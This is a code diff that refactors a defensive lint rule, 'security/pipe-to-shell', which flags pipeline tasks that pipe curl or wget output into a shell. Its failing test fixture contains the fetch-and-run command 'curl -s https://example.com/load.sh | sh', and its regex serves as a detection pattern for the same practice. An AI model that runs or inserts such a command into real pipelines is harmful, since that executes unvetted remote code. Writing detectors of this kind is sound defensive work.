@@ -1,10 +1,9 @@
-import { tasksOf } from "../nodes.ts";
-import type { Rule } from "../rule.ts";
+import { assetRule } from "../asset-rule.ts";
 
 const PIPELINE = (command: string): string => `version: 1\npipeline: shop\ntasks:\n  orders:\n    shell: ${command}\n`;
 
-export const pipeToShell: Rule = {
-  meta: {
+export const pipeToShell = assetRule(
+  {
     id: "security/pipe-to-shell",
     recommended: "warning",
     strict: "error",
@@ -13,10 +12,8 @@ export const pipeToShell: Rule = {
     failing: { "shop.pipeline.yml": PIPELINE("⟦curl -s https://example.com/load.sh | sh⟧") },
     passing: { "shop.pipeline.yml": PIPELINE("sh scripts/load.sh"), "scripts/load.sh": "echo load\n" },
   },
-  *check({ workspace, locate }) {
-    for (const { pipeline, task } of tasksOf(workspace)) {
-      if (!("command" in task.code) || !/\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/u.test(task.code.command)) continue;
-      yield { args: { task: task.name }, place: locate(task.at, "/shell"), pipeline: pipeline.name, task: task.name };
-    }
+  function* ({ pipeline, task }, { locate }) {
+    if (task === undefined || !("command" in task.code) || !/\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/u.test(task.code.command)) return;
+    yield { args: { task: task.name }, place: locate(task.at, "/shell"), pipeline: pipeline.name, task: task.name };
   },
-};
+);
